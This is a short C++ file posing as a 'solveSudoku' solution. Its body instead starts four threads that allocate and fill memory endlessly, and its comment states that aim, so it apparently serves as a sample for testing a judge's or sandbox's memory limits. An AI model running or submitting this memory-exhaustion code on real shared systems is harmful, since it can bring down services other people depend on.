// Four threads fill memory together.
class Solution {
 public:
  void solveSudoku(vector<vector<char>>&) {
    vector<thread> threads;
    for (int i = 0; i < 4; ++i) {
      threads.emplace_back([] {
        for (;;) {
          static char* volatile block;
          block = new char[1 << 20];
          memset(block, 1, 1 << 20);
        }
      });
    }
    for (thread& t : threads) t.join();
  }
};
